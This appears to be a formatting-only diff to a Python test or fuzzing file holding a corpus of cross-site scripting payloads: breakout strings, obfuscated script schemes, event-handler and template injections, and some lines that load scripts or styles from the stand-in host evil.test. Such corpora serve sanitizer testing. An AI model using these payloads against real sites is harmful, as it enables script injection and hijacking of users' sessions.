@@ -19,20 +19,26 @@ _EVENTS = (
 # What a text may have to break out of first.
 _OUT = ("", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</pre></code>")
 _SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,<script>", "vbscript:")
-_CARRIERS = ("<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button autofocus>", "<base href='{}'>")
+_CARRIERS = (
+    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button autofocus>", "<base href='{}'>",
+)  # fmt: skip
 _WHOLE = (
     "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>",
     "<script type=module>import '//evil.test/x.js'</script>", "<link rel=stylesheet href=//evil.test/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<img src=//evil.test/x.png>", "<svg><script>alert(1)</script>",
-    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><img src=x onerror=alert(1)></template>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}",
-    "<%= alert(1) %>", "{% raw %}<img src=x onerror=alert(1)>", "[[${alert(1)}]]", "';alert(1)//", '";alert(1)//', "`;alert(1)//",
-    "\\u003cimg src=x onerror=alert(1)\\u003e", "&lt;img src=x onerror=alert(1)&gt;", "%3Cimg src=x onerror=alert(1)%3E",
-    "\u2028<img src=x onerror=alert(1)>", "\ufeff<img src=x onerror=alert(1)>", "\u202e>)1(trela=rorreno x=crs gmi<",
-    "<img/src/onerror=alert(1)>", "<img src=x onerror=alert&lpar;1&rpar;>", "<a href=//evil.test ping=//evil.test>x</a>",
-    "__proto__", "constructor", "toString", "<style>@import '//evil.test/x.css';</style>", "<p style='background:url(//evil.test/x)'>",
-    '{"type":"img","props":{"src":"x","onerror":"alert(1)","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
+    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<img src=//evil.test/x.png>",
+    "<svg><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><img src=x onerror=alert(1)></template>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
+    "#{alert(1)}", "<%= alert(1) %>", "{% raw %}<img src=x onerror=alert(1)>", "[[${alert(1)}]]", "';alert(1)//",
+    '";alert(1)//', "`;alert(1)//", "\\u003cimg src=x onerror=alert(1)\\u003e", "&lt;img src=x onerror=alert(1)&gt;",
+    "%3Cimg src=x onerror=alert(1)%3E", "\u2028<img src=x onerror=alert(1)>", "\ufeff<img src=x onerror=alert(1)>",
+    "\u202e>)1(trela=rorreno x=crs gmi<", "<img/src/onerror=alert(1)>", "<img src=x onerror=alert&lpar;1&rpar;>",
+    "<a href=//evil.test ping=//evil.test>x</a>", "__proto__", "constructor", "toString",
+    "<style>@import '//evil.test/x.css';</style>", "<p style='background:url(//evil.test/x)'>",
+    ('{"type":"img","props":{"src":"x","onerror":"alert(1)","danger'
+     'ouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}'),
 )  # fmt: skip
 
 
